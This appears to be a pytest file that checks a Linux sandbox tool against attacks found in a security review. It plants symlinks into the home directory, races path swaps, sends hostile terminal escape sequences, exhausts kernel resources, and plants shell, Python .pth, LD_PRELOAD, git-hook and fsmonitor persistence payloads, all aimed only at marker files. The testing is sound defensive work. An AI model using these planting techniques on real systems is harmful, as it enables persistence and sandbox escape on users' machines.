"""The findings of the attack on the landed code (issue 8), each performed as the attacker did it.

The attacker is a program that once ran in the default profile (so it could write the current directory)
or a second sandbox of the same user sharing that directory; the victim is the user's next run.
"""

import ctypes
import os
import pty
import select
import subprocess
import sys
import termios
import threading
import time
import uuid

import pytest

from conftest import command_stderr, rootsand_argv, run, sandbox

HOME = os.path.realpath(os.path.expanduser("~"))


@pytest.fixture
def secret():
    """A file in the user's home that no sandbox may read."""
    path = os.path.join(HOME, f"rootsand-secret-{uuid.uuid4().hex[:8]}")
    with open(path, "w") as f:
        f.write("the user's secret\n")
    yield path
    os.unlink(path)


def env_in(directory, **extra) -> dict:
    """The environment a shell gives after `cd DIRECTORY` (PWD as typed, through any link)."""
    return dict(os.environ, PWD=str(directory), **extra)


# -- 1. links in the current directory ------------------------------------------------------------------

def test_a_planted_link_to_home_as_the_current_directory_is_refused(tmp_path, secret):
    (tmp_path / "build").symlink_to(HOME)
    r = sandbox("cat", secret, cwd=tmp_path / "build", env=env_in(tmp_path / "build"), check_rc=125)
    assert r.stderr.splitlines()[0] == (
        f"rootsand: error: the current directory {tmp_path}/build leads through a symbolic link to {HOME} "
        "(your home directory): refusing to bind it, since a sandbox may have planted the link")
    assert "the user's secret" not in r.stdout


def test_a_planted_link_into_a_dot_directory_is_refused(tmp_path):
    name = f".rootsand-test-{uuid.uuid4().hex[:8]}"
    dot = os.path.join(HOME, name)
    os.mkdir(dot)
    try:
        (tmp_path / "cfg").symlink_to(dot)
        r = sandbox("touch", "planted", cwd=tmp_path / "cfg", env=env_in(tmp_path / "cfg"), check_rc=125)
        assert f"(it is inside {HOME}/{name})" in r.stderr
        assert os.listdir(dot) == []
    finally:
        for leftover in os.listdir(dot):
            os.unlink(os.path.join(dot, leftover))
        os.rmdir(dot)


def test_a_users_own_symlinked_project_directory_still_works(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "src").symlink_to(tmp_path / "real")
    r = sandbox("sh", "-c", "pwd; echo built > out.txt", cwd=tmp_path / "src", env=env_in(tmp_path / "src"),
                check_rc=0)
    assert r.stdout == f"{tmp_path}/real\n"
    assert (f"rootsand: warning: the current directory in the sandbox is {tmp_path}/real "
            f"(where {tmp_path}/src leads)") in r.stderr
    assert (tmp_path / "real" / "out.txt").read_text() == "built\n"


def test_running_from_home_itself_says_what_stays_read_only():
    r = sandbox("true", cwd=HOME, env=env_in(HOME), check_rc=0)
    assert r.stderr.splitlines() == [
        "rootsand: warning: running from your home directory: it is read-only in the sandbox, so nothing there can be "
        "made or changed for your host to run later; run from a project directory in it, or --unprotect ~/DIR to "
        "make one writable"]


def test_a_planted_link_as_a_bind_source_is_not_followed(tmp_path, secret):
    (tmp_path / "data").symlink_to(os.path.dirname(secret))
    r = sandbox("cat", "/data/" + os.path.basename(secret), opts=["--ro-bind", "./data:/data"], cwd=tmp_path,
                check_rc=125)
    assert r.stderr.splitlines()[0] == (
        f"rootsand: error: --ro-bind ./data:/data: {tmp_path}/data is a symbolic link (to {HOME}) inside "
        f"{tmp_path}, which the sandbox can write: it is not followed")
    assert r.stderr.splitlines()[1] == f"rootsand: hint: name its target {HOME} instead, if that is what you mean"


def test_a_link_owned_by_root_is_followed(tmp_path):
    # /lib64 -> usr/lib64 and friends: a system's own links, which no sandbox can make (they are root's).
    target = next(p for p in ("/bin", "/lib", "/sbin") if os.path.islink(p) and os.lstat(p).st_uid == 0)
    r = sandbox("test", "-d", "/x", opts=["--ro-bind", f"{target}:/x"], cwd=tmp_path, check_rc=0)
    assert r.stderr == ""


def test_a_persistent_overlay_upper_replaced_by_a_link_is_refused(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    project = tmp_path / "project"
    (project / "lower").mkdir(parents=True)
    profile = tmp_path / "keep.toml"
    profile.write_text('extends = "default"\n[[mount]]\ntype = "overlay"\nlower = ["${CWD}/lower"]\n'
                       'upper = "${CWD}/upper"\ndst = "/work"\n')
    sandbox("sh", "-c", "echo one > /work/f", opts=["-p", str(profile)], cwd=project, check_rc=0)
    assert (project / "upper" / "f").read_text() == "one\n"
    # What a sandbox run in `project` can do between two runs:
    (project / "upper").rename(project / "upper.old")
    (project / "upper").symlink_to(victim)
    r = sandbox("sh", "-c", "echo two > /work/f", opts=["-p", str(profile)], cwd=project, check_rc=125)
    assert r.stderr.startswith(f"rootsand: error: profile {profile}, line 2 upper: {project}/upper is a "
                               f"symbolic link (to {victim}) inside {project}")
    assert os.listdir(victim) == []


# -- 2. home computed from the passwd entry too --------------------------------------------------------

def test_home_unset_and_run_from_its_parent_shows_no_home(secret):
    parent = os.path.dirname(HOME)
    env = {k: v for k, v in os.environ.items() if k not in ("HOME", "PWD")}
    r = sandbox("sh", "-c", f"cat {secret}; ls -A {HOME} | wc -l", cwd=parent, env=env, check_rc=0)
    assert "the user's secret" not in r.stdout
    assert r.stdout.strip().splitlines()[-1] == "0"
    assert "No such file or directory" in r.stderr


# -- 3. a concurrent sandbox swapping path components ----------------------------------------------------

def test_a_read_only_bind_stays_read_only_while_its_destination_is_swapped(tmp_path):
    """The destination lies in the shared (writable) directory; a second sandbox swaps it for a link as fast
    as it can. The mount is made on the target opened once, and the read-only flag is set on the detached
    tree before it is attached: wherever the swap sends it, the bind is read-only and the source untouched."""
    source = tmp_path / "source"
    source.mkdir()
    shared = tmp_path / "shared"
    (shared / "ro").mkdir(parents=True)
    (shared / "other").mkdir()
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            try:
                os.rename(shared / "ro", shared / "ro.real")
                os.symlink("other", shared / "ro")
                os.unlink(shared / "ro")
                os.rename(shared / "ro.real", shared / "ro")
            except OSError:
                pass

    attacker = threading.Thread(target=swap, daemon=True)
    attacker.start()
    seen = []
    # Wherever the source is seen inside (by its inode), whether that mount is read-only; and a write
    # through each path it may be at.
    probe = ("import os, sys\nfor d in sys.argv[3:]:\n    try:\n        open(d + '/probe', 'w').close()\n"
             "    except OSError:\n        pass\n    try:  # one open, so the attacker's swap cannot come between the two looks\n"
             "        fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)\n        st, fs = os.fstat(fd), os.fstatvfs(fd)\n"
             "    except OSError:\n        continue\n    if (st.st_dev, st.st_ino) == (int(sys.argv[1]), int(sys.argv[2])):\n"
             "        print(d, 'ro' if fs.f_flag & os.ST_RDONLY else 'rw')\n")
    device, inode = str(os.stat(source).st_dev), str(os.stat(source).st_ino)
    try:
        for _ in range(60):
            r = sandbox("python3", "-c", probe, device, inode, f"{shared}/ro", f"{shared}/other", f"{shared}/ro.real",
                        opts=["--ro-bind", f"{source}:{shared}/ro"], cwd=shared)
            if r.returncode == 125:  # the swap caught while binding: refused, and said so (File exists, ...)
                assert r.stderr.startswith(f"rootsand: error: --ro-bind {source}:{shared}/ro: "), r.stderr
                assert "internal error" not in r.stderr and "Traceback" not in r.stderr, r.stderr
                continue
            assert (r.returncode, command_stderr(r)) == (0, []), (r.returncode, r.stderr)
            seen += r.stdout.splitlines()
    finally:
        stop.set()
        attacker.join()
    assert os.listdir(source) == []
    assert seen and [line for line in seen if line.split()[1] != "ro"] == []


# -- 4. the status file -----------------------------------------------------------------------------------

def test_a_fifo_as_the_status_file_without_a_reader_costs_one_warning(tmp_path):
    # Issue 18, finding 9: a FIFO planted where the status file goes is not written, and the run goes on.
    os.mkfifo(tmp_path / "status.json")
    r = sandbox("echo", "ran", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path, check_rc=0,
                timeout=10)
    assert (r.stdout, r.stderr) == ("ran\n", "rootsand: warning: --json-status: status.json is a FIFO nobody reads: "
                                              "no status is written\n")


def test_a_fifo_as_the_status_file_with_a_reader_costs_one_warning(tmp_path):
    fifo = tmp_path / "status.json"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # held open, never read: the planted stall
    try:
        r = sandbox("echo", "ran", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path,
                    check_rc=0, timeout=10)
        assert os.read(reader, 100) == b""  # nothing was written into it
    finally:
        os.close(reader)
    assert (r.stdout, r.stderr) == ("ran\n", "rootsand: warning: --json-status: status.json is not a regular file: "
                                              "no status is written (name a new file, or /dev/stdout, /dev/stderr "
                                              "or /dev/fd/N)\n")


def test_a_link_in_the_status_files_directory_is_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / "out").symlink_to(victim)
    r = sandbox("true", opts=["--json-status", "out/status.json"], cwd=tmp_path, check_rc=125)
    assert r.stderr.startswith(f"rootsand: error: --json-status: {tmp_path}/out is a symbolic link (to {victim})")
    assert os.listdir(victim) == []


def test_a_planted_status_file_link_behind_proc_self_cwd_is_not_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "st.json").symlink_to(victim)
    r = sandbox("true", opts=["--json-status", "/proc/self/cwd/st.json"], cwd=tmp_path, check_rc=125)
    assert r.stderr == ("rootsand: error: --json-status: cannot write /proc/self/cwd/st.json: "
                        "a symbolic link is in the way\n")
    assert victim.read_text() == "precious\n"


def test_a_status_reader_that_went_away_costs_one_warning_and_nothing_else(tmp_path):
    read_end, write_end = os.pipe()
    os.close(read_end)  # nobody reads: every write fails with EPIPE
    r = sandbox("sh", "-c", "exit 3", opts=["--json-status", f"/dev/fd/{write_end}"], cwd=tmp_path,
                pass_fds=(write_end,), check_rc=3)
    os.close(write_end)
    assert r.stderr == f"rootsand: warning: --json-status: cannot write /dev/fd/{write_end}: Broken pipe\n"


# -- 7. the staging area ----------------------------------------------------------------------------------

def test_run_from_tmp_shows_none_of_the_staging_area():
    r = sandbox("sh", "-c", "ls -A /tmp/root /tmp/etc-hosts 2>&1; awk '{print $5}' /proc/self/mountinfo",
                cwd="/tmp", env=env_in("/tmp"), check_rc=0)
    lines = r.stdout.splitlines()
    assert "No such file or directory" in lines[0] and "No such file or directory" in lines[1], lines[:2]
    assert [p for p in lines[2:] if p.startswith("/tmp/")] == []


# -- 8. inotify ---------------------------------------------------------------------------------------------

INOTIFY_HOG = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
count = 0
while count < 5000 and libc.inotify_init1(0) >= 0:
    count += 1
print(count, flush=True)
sys.stdin.read()  # hold them until the test has tried its own
"""


@pytest.mark.writable_proc_sys
def test_the_untrusted_profile_leaves_the_user_inotify_instances(tmp_path):
    with open("/proc/sys/fs/inotify/max_user_instances") as f:
        host_max = int(f.read())
    proc = subprocess.Popen(rootsand_argv() + ["run", "--profile", "untrusted", "--", "python3", "-c", INOTIFY_HOG],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            cwd=tmp_path)
    try:
        count = int(proc.stdout.readline())
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.inotify_init1(0)
        error = ctypes.get_errno()
        if fd >= 0:
            os.close(fd)
    finally:
        proc.stdin.close()
        proc.wait(timeout=30)
    assert 0 < count <= host_max // 8
    assert fd >= 0, os.strerror(error)


# -- 9. the relay -------------------------------------------------------------------------------------------

def pty_session(args, keys: list[bytes] = (), seconds: float = 20, cwd=None):
    """rootsand on a terminal of our own: the keys are typed one group at a time once output settles;
    returns (exit status, everything the terminal received)."""
    master, slave = pty.openpty()
    termios.tcsetattr(slave, termios.TCSANOW, termios.tcgetattr(slave))
    proc = subprocess.Popen(rootsand_argv() + args, stdin=slave, stdout=slave, stderr=slave,
                            start_new_session=True, cwd=cwd, env=dict(os.environ, TERM="xterm"))
    os.close(slave)
    received = b""
    pending = list(keys)
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.5)
            if ready:
                try:
                    data = os.read(master, 65536)
                except OSError:
                    break
                if not data:
                    break
                received += data
            elif pending:
                os.write(master, pending.pop(0))  # output has settled: the program waits for keys
            elif proc.poll() is not None:
                break
        return proc.wait(timeout=max(1.0, deadline - time.monotonic())), received
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)


ATTACK = (r"printf '\033]52;c;aGVsbG8=\007\033]0;owned\007\033]2;owned\033\\\033[6n\033[c\033[>c\033[14t"
          r"\033P$qm\033\\\033]11;?\007\005plain \033[31mred\033[0m\033[?1049h\033[?1000h\033[?2004h'")


def test_the_relay_filters_what_the_sandbox_sends_to_the_terminal(tmp_path):
    code, received = pty_session(["run", "--", "sh", "-c", ATTACK], cwd=tmp_path)
    assert code == 0
    assert b"plain \x1b[31mred\x1b[0m\x1b[?1049h\x1b[?1000h\x1b[?2004h" in received
    for sequence in (b"\x1b]52", b"\x1b]0;", b"\x1b]2;", b"\x1b[6n", b"\x1b[c", b"\x1b[>c", b"\x1b[14t", b"\x1bP",
                     b"\x1b]11", b"\x05"):
        assert sequence not in received, sequence
    # ... and at exit the modes it turned on are turned off again.
    tail = received[received.index(b"\x1b[?2004h") + 8:]
    for reset in (b"\x1b[?1049l", b"\x1b[?1000l", b"\x1b[?2004l"):
        assert reset in tail, (reset, tail)


def test_vim_works_through_the_filtered_relay(tmp_path):
    code, _ = pty_session(["run", "--", "vi", "-u", "NONE", "-N", "notes.txt"],
                          keys=[b"ihello from vim\x1b", b":wq\r"], cwd=tmp_path)
    assert code == 0
    assert (tmp_path / "notes.txt").read_text() == "hello from vim\n"


def test_less_works_through_the_filtered_relay(tmp_path):
    (tmp_path / "long.txt").write_text("".join(f"line {n}\n" for n in range(200)))
    code, received = pty_session(["run", "--", "less", "long.txt"], keys=[b" ", b"q"], cwd=tmp_path)
    assert code == 0
    assert b"line 0" in received and b"line 30" in received


def test_the_command_terminal_is_the_sandboxs_own_pts(tmp_path):
    code, received = pty_session(["run", "--", "sh", "-c", "tty; ls -l $(tty) | cut -d' ' -f3"], cwd=tmp_path)
    assert code == 0
    assert received.replace(b"\r", b"").split(b"\n")[:2] == [b"/dev/pts/0", b"root"]


def test_the_command_terminal_belongs_to_a_keep_id_user(tmp_path):
    code, received = pty_session(["run", "--user", "keep-id", "--", "sh", "-c", "tty; stat -c %u $(tty)"],
                                 cwd=tmp_path)
    assert code == 0
    assert received.replace(b"\r", b"").split(b"\n")[:2] == [b"/dev/pts/0", str(os.getuid()).encode()]


# -- 11. the runtime directory -------------------------------------------------------------------------------

def test_a_runtime_directory_others_can_write_is_refused(tmp_path):
    shared = tmp_path / "xdg"
    shared.mkdir()
    shared.chmod(0o777)
    (tmp_path / "work").mkdir()
    r = sandbox("true", opts=["--net", "slirp", "--publish", "127.0.0.1:18931:80"], cwd=tmp_path / "work",
                env=dict(os.environ, XDG_RUNTIME_DIR=str(shared)), check_rc=125)
    assert r.stderr.splitlines()[0] == (f"rootsand: error: XDG_RUNTIME_DIR={shared} is not a directory of yours "
                                        "that only you can write")
    assert os.listdir(shared) == []


def test_a_runtime_directory_that_is_a_link_is_refused(tmp_path):
    (tmp_path / "real").mkdir(mode=0o700)
    (tmp_path / "xdg").symlink_to(tmp_path / "real")
    (tmp_path / "work").mkdir()
    r = sandbox("true", opts=["--net", "slirp", "--publish", "127.0.0.1:18932:80"], cwd=tmp_path / "work",
                env=dict(os.environ, XDG_RUNTIME_DIR=str(tmp_path / "xdg")), check_rc=125)
    assert "is not a directory of yours" in r.stderr.splitlines()[0]


# -- 12. /proc -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("profile", ["default", "untrusted"])
def test_proc_keys_and_friends_are_masked(tmp_path, profile):
    r = sandbox("sh", "-c", "cat /proc/keys /proc/key-users /proc/timer_list | wc -c; ls -A /proc/acpi | wc -l; "
                "awk '{print $5}' /proc/self/mountinfo", opts=["--profile", profile], cwd=tmp_path, check_rc=0)
    lines = r.stdout.split()
    assert lines[:2] == ["0", "0"]
    assert {"/proc/keys", "/proc/key-users", "/proc/timer_list", "/proc/acpi"} <= set(lines[2:])


# -- 13. profiles that are not regular files ----------------------------------------------------------------

def test_a_fifo_in_extends_is_refused_without_hanging(tmp_path):
    os.mkfifo(tmp_path / "fifo.toml")
    (tmp_path / "p.toml").write_text('extends = "./fifo.toml"\n')
    r = run(["run", "-p", str(tmp_path / "p.toml"), "--", "true"], cwd=tmp_path, check_rc=125, timeout=10)
    assert r.stderr.startswith(f"rootsand: error: profile {tmp_path}/fifo.toml: not a regular file")


# -- 14. the terminal after a failure ---------------------------------------------------------------------

def test_the_terminal_is_restored_after_a_setup_failure(tmp_path):
    master, slave = pty.openpty()
    before = termios.tcgetattr(slave)
    proc = subprocess.Popen(rootsand_argv() + ["run", "--bind", "/nonexistent-src:/x", "--", "true"], stdin=slave,
                            stdout=slave, stderr=slave, start_new_session=True, cwd=tmp_path)
    output = b""
    while proc.poll() is None or select.select([master], [], [], 0.2)[0]:
        if select.select([master], [], [], 0.2)[0]:
            try:
                output += os.read(master, 4096)
            except OSError:
                break
    after = termios.tcgetattr(slave)
    os.close(slave)
    os.close(master)
    assert proc.returncode == 125
    assert b"rootsand: error: --bind /nonexistent-src:/x: /nonexistent-src does not exist" in output
    assert after == before


# -- the second attack (on the changed code) -----------------------------------------------------------

def test_run_from_tmp_does_not_hand_over_the_sockets_in_it(tmp_path):
    """tmux, X11 and ssh-agent keep their sockets in /tmp; connect() ignores network namespaces."""
    import socket

    directory = f"/tmp/rootsand-test-sockets-{uuid.uuid4().hex[:8]}"
    os.mkdir(directory, 0o700)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(f"{directory}/default")
        server.listen(1)
        probe = f"import socket; socket.socket(socket.AF_UNIX).connect('{directory}/default'); print('connected')"
        r = sandbox("python3", "-c", probe, cwd="/tmp", env=env_in("/tmp"), check_rc=1)
        assert "connected" not in r.stdout and "FileNotFoundError" in r.stderr
        assert ("rootsand: warning: the current directory /tmp is shared with other programs' sockets (/tmp): "
                "it is not made visible") in r.stderr
    finally:
        server.close()
        os.unlink(f"{directory}/default")
        os.rmdir(directory)


def test_a_link_planted_in_another_project_into_home_is_not_followed(tmp_path, secret):
    (tmp_path / "projA").mkdir()
    (tmp_path / "projB").mkdir()
    (tmp_path / "projA" / "dist").symlink_to(os.path.dirname(secret))  # what a sandbox in projA could do
    for option in ("--ro-bind", "--overlay"):
        r = sandbox("cat", "/dep/" + os.path.basename(secret), opts=[option, f"{tmp_path}/projA/dist:/dep"],
                    cwd=tmp_path / "projB", check_rc=125)
        assert r.stderr.splitlines()[0] == (
            f"rootsand: error: {option} {tmp_path}/projA/dist:/dep: {tmp_path}/projA/dist is a symbolic link into "
            f"your home directory (to {HOME}), which a sandbox may have planted: it is not followed")


def test_a_planted_link_to_a_directory_in_home_as_the_current_directory_is_refused(tmp_path):
    bin_dir = os.path.join(HOME, f"bin-{uuid.uuid4().hex[:8]}")
    os.mkdir(bin_dir)
    try:
        (tmp_path / "b").symlink_to(bin_dir)
        r = sandbox("touch", "ls", cwd=tmp_path / "b", env=env_in(tmp_path / "b"), check_rc=125)
        assert f"leads through a symbolic link to {bin_dir} (it is inside your home {HOME})" in r.stderr
        assert os.listdir(bin_dir) == []
    finally:
        os.rmdir(bin_dir)


def test_escape_sequences_in_planted_names_are_not_printed_raw(tmp_path):
    (tmp_path / "status").symlink_to("/\x1b]52;c;ZWNobw==\x07\x1b[c")
    r = sandbox("true", opts=["--json-status", "status/run.json"], cwd=tmp_path, check_rc=125)
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr
    assert "\\x1b]52;c;ZWNobw==\\x07\\x1b[c" in r.stderr


def test_a_sandbox_can_open_only_a_few_ptys(tmp_path):
    hog = ("import os\nptys = []\ntry:\n    while len(ptys) < 1000:\n        ptys.append(os.openpty())\n"
           "except OSError as e:\n    print(len(ptys), e.strerror)\n")
    r = sandbox("python3", "-c", hog, cwd=tmp_path, check_rc=0)
    assert r.stdout == "64 No space left on device\n"


def test_untrusted_refuses_the_32_bit_system_call_abi(tmp_path):
    """int $0x80 from a 64-bit program reaches the i386 ABI, whose socketcall(2) hides the socket family."""
    if os.uname().machine != "x86_64":
        pytest.skip("the i386 ABI is an x86-64 matter")
    (tmp_path / "i386.c").write_text(
        "#include <stdio.h>\nint main(void) { long r; /* i386 getpid is 20 */\n"
        "  __asm__ volatile (\"int $0x80\" : \"=a\"(r) : \"a\"(20L) : \"memory\");\n"
        "  printf(\"i386 call returned %ld\\n\", r > 0 ? 1L : r); return 0; }\n")
    subprocess.run(["cc", "-O0", "-o", tmp_path / "i386", tmp_path / "i386.c"], check=True)
    allowed = sandbox("./i386", cwd=tmp_path, check_rc=0)
    assert allowed.stdout == "i386 call returned 1\n"
    refused = sandbox("sh", "-c", "./i386; echo status=$?", opts=["--profile", "untrusted"], cwd=tmp_path,
                      check_rc=0)
    assert refused.stdout.splitlines()[-1] == "status=159"  # 128 + SIGSYS: the thread was killed
    assert "i386 call returned" not in refused.stdout


def test_a_slow_terminal_gets_all_the_output_and_the_resets(tmp_path):
    """The user's terminal reads slowly (an ssh link): after the command ends, rootsand waits while the
    terminal keeps taking output, and the mode resets always go out last."""
    master, slave = pty.openpty()
    script = "printf '\\033[?1049h\\033[?25l'; head -c 60000 /dev/zero | tr '\\0' x; echo END"
    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", script], stdin=slave, stdout=slave,
                            stderr=slave, start_new_session=True, cwd=tmp_path, env=dict(os.environ, TERM="xterm"))
    os.close(slave)
    received = b""
    try:
        while True:  # about 30 KB/s: two seconds for the output
            if not select.select([master], [], [], 10)[0]:
                break
            try:
                data = os.read(master, 1024)
            except OSError:
                break
            if not data:
                break
            received += data
            time.sleep(0.03)
    finally:
        os.close(master)
        proc.wait(timeout=30)
    assert proc.returncode == 0
    assert received.count(b"x") == 60000 and b"END" in received
    tail = received[received.index(b"END"):]
    assert b"\x1b[?1049l" in tail and b"\x1b[?25h" in tail


@pytest.mark.parametrize("module", ["termios", "fnmatch", "weakref"])
def test_python_m_from_a_directory_a_sandbox_wrote_imports_none_of_its_modules(tmp_path, module):
    """`python -m rootsand` puts the current directory first on sys.path. A module a sandbox planted there
    (one rootsand imports lazily: termios and fnmatch on the host, weakref in the setup process before
    its seccomp filter) must not be imported by the next run."""
    marker = tmp_path.parent / f"{tmp_path.name}-{module}-ran"
    plant = f"open({str(marker)!r}, 'w').close()"
    sandbox("sh", "-c", f'printf "%s\\n" "$1" > {module}.py', "_", plant, cwd=tmp_path, check_rc=0)
    assert (tmp_path / f"{module}.py").exists()
    done = subprocess.run([sys.executable, "-m", "rootsand", "run", "--", "sh", "-c", "grep Seccomp: /proc/self/status"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    assert "Seccomp:\t2" in done.stdout
    assert not marker.exists(), f"the planted {module}.py ran"


# -- issue 18: nothing a sandbox writes may run on the host later (findings 1, 2 and 7) ---------------------

import re  # noqa: E402
import shutil  # noqa: E402
import signal  # noqa: E402

STAMP = re.compile(r"rootsand-quarantine-\d{8}-\d{6}")


@pytest.fixture
def in_home():
    """Directories made in the home directory as a user would have them (`in_home(".config/direnv")`), removed
    at the end with whatever the test left in them."""
    made = []

    def make(*paths):
        for rel in paths:
            top = os.path.join(HOME, rel.split("/")[0])
            if not os.path.lexists(top):
                made.append(top)
            os.makedirs(os.path.join(HOME, rel), exist_ok=True)
    yield make
    for top in made:
        shutil.rmtree(top, ignore_errors=True)


# Where programs on the host take instructions from, none of them in any list: finding 1's plants.
PLANTS = {
    ".config/rootsand/profiles/default.toml": '[sandbox]\nhostname = "planted"\n',
    ".bash_aliases": "touch /tmp/pwned\n",
    ".local/lib/python3.11/site-packages/zz-evil.pth": "import os; os.system('touch /tmp/pwned')\n",
    ".config/direnv/direnvrc": "touch /tmp/pwned\n",
    ".config/environment.d/x.conf": "LD_PRELOAD=/tmp/evil.so\n",
}


def test_from_home_nothing_a_host_program_runs_later_can_be_planted(in_home, tmp_path):
    in_home(".config/rootsand/profiles", ".local/lib/python3.11/site-packages", ".config/direnv",
            ".config/environment.d", f"proj-{tmp_path.name}")
    script = "; ".join(f"printf '{content}' > {path}".replace("\n", "\\n") for path, content in PLANTS.items())
    r = sandbox("sh", "-c", script + f"; echo built > proj-{tmp_path.name}/out; echo done", cwd=HOME,
                env=env_in(HOME), opts=["--unprotect", f"~/proj-{tmp_path.name}"])
    assert (r.returncode, r.stdout) == (0, "done\n"), r.stderr
    assert command_stderr(r) == [f"sh: 1: cannot create {path}: Read-only file system" for path in PLANTS]
    assert [p for p in PLANTS if os.path.lexists(os.path.join(HOME, p))] == []
    assert open(os.path.join(HOME, f"proj-{tmp_path.name}", "out")).read() == "built\n"  # what --unprotect named
    # the next plain run, from anywhere, uses the built-in default
    assert sandbox("hostname", cwd=tmp_path, check_rc=0).stdout == "rootsand\n"


def test_a_bind_of_home_follows_the_same_rule(in_home, tmp_path):
    in_home(f"proj-{tmp_path.name}")
    r = sandbox("sh", "-c", f"echo x > {HOME}/.bash_aliases; echo y > {HOME}/proj-{tmp_path.name}/f; echo z > {HOME}/new",
                opts=["--bind", HOME], cwd=tmp_path)
    assert command_stderr(r) == [f"sh: 1: cannot create {HOME}/.bash_aliases: Read-only file system",
                                 f"sh: 1: cannot create {HOME}/proj-{tmp_path.name}/f: Read-only file system",
                                 f"sh: 1: cannot create {HOME}/new: Read-only file system"]
    assert not os.path.lexists(os.path.join(HOME, ".bash_aliases")) and not os.path.lexists(os.path.join(HOME, "new"))
    assert (f"rootsand: warning: --bind {HOME}: your home directory {HOME} is shown: it is read-only in the sandbox"
            ) in r.stderr


def test_a_directory_inside_a_dot_directory_is_read_only_unless_unprotected(in_home, tmp_path):
    name = f".config/tool-{tmp_path.name}"
    in_home(name)
    where = os.path.join(HOME, name)
    r = sandbox("touch", "init.lua", cwd=where, env=env_in(where))
    assert r.returncode == 1 and command_stderr(r) == ["touch: cannot touch 'init.lua': Read-only file system"]
    assert (f"rootsand: warning: the current directory {where} is inside {HOME}/.config, where programs on your host find what to "
            f"run: it is read-only in the sandbox (--unprotect ~/{name} makes it writable)") in r.stderr
    sandbox("touch", "init.lua", opts=["--unprotect", f"~/{name}"], cwd=where, env=env_in(where), check_rc=0)
    assert os.path.exists(os.path.join(where, "init.lua"))


@pytest.mark.parametrize("existing", [False, True])
def test_rootsands_own_configuration_is_never_writable(in_home, existing):
    in_home(".config/other")
    if existing:
        in_home(".config/rootsand/profiles")
    r = sandbox("sh", "-c", "echo ok > .config/other/x; mkdir -p .config/rootsand/profiles; "
                "echo '[sandbox]' > .config/rootsand/profiles/default.toml", opts=["--unprotect", "~/.config"],
                cwd=HOME, env=env_in(HOME))
    errors = [line for line in command_stderr(r) if "rootsand" in line]
    assert errors[-1] == "sh: 1: cannot create .config/rootsand/profiles/default.toml: " + (
        "Read-only file system" if existing else "Directory nonexistent")
    assert len(errors) == 1 if existing else (len(errors) == 2 and errors[0].endswith(": Read-only file system"))
    assert open(os.path.join(HOME, ".config/other/x")).read() == "ok\n"  # what --unprotect asked for
    assert not os.path.lexists(os.path.join(HOME, ".config/rootsand/profiles/default.toml"))
    assert os.path.lexists(os.path.join(HOME, ".config/rootsand")) == existing  # the placeholder is gone


def test_a_user_default_profile_changes_no_builtin_profile(in_home, tmp_path):
    in_home(".config/rootsand/profiles")
    with open(os.path.join(HOME, ".config/rootsand/profiles/default.toml"), "w") as f:
        f.write('extends = "default"\n[sandbox]\nhostname = "mine"\n')
    assert sandbox("hostname", cwd=tmp_path, check_rc=0).stdout == "mine\n"  # chosen by its name
    for builtin in ("untrusted", "agent", "fakeroot"):
        assert sandbox("hostname", opts=["--profile", builtin], cwd=tmp_path, check_rc=0).stdout == "rootsand\n"
    assert sandbox("hostname", opts=["--profile", "build"], cwd=tmp_path, check_rc=0).stdout == "build\n"


def git_repo(path):
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def paused(directory, *opts):
    """A sandbox that says "ready" and runs until a line arrives on its stdin."""
    proc = subprocess.Popen(rootsand_argv() + ["run", *opts, "--", "sh", "-c", "echo ready; read x"], cwd=directory,
                            env=env_in(directory), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline() == "ready\n"
    return proc


@pytest.mark.parametrize("profile", ["default", "agent"])
def test_a_second_sandbox_over_the_parent_plants_nothing_git_runs(tmp_path, profile):
    """Finding 2: A runs in proj, B over its parent writes proj's hook and config; each sandbox's check covers
    all it could write, whoever else protects it, and A's catches what changed under its read-only paths."""
    proj = git_repo(tmp_path / "proj")
    marker = tmp_path / "PWNED"
    first = paused(proj, "--profile", profile)
    try:
        plant = (f"printf '#!/bin/sh\\ntouch {marker}\\n' > proj/.git/hooks/pre-commit; chmod +x proj/.git/hooks/pre-commit; "
                 f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' >> proj/.git/config; echo planted")
        second = sandbox("sh", "-c", plant, cwd=tmp_path, env=env_in(tmp_path))
        assert second.stdout == "planted\n", second.stderr
        out, err = first.communicate("end\n", timeout=30)
        assert first.returncode == 0, err
    finally:
        if first.poll() is None:
            first.kill()
            first.communicate()
    warnings = [STAMP.sub("STAMP", line) for line in (second.stderr + err).splitlines() if "renamed to" in line]
    assert warnings, second.stderr + err
    git = ["git", "-C", str(proj), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run(git + ["status", "--porcelain"], capture_output=True)
    subprocess.run(git + ["commit", "--allow-empty", "-qm", "x"], capture_output=True)
    assert not marker.exists(), warnings
    assert not (proj / ".git" / "hooks" / "pre-commit").exists()


def killed_once_ready(directory, script: str, meanwhile=lambda: None) -> None:
    """A sandbox in `directory` running `script` (which ends by saying "ready"), then `meanwhile()`, then its
    launcher killed with SIGKILL, leaving its checks to the next sweep (`rootsand cleanup`)."""
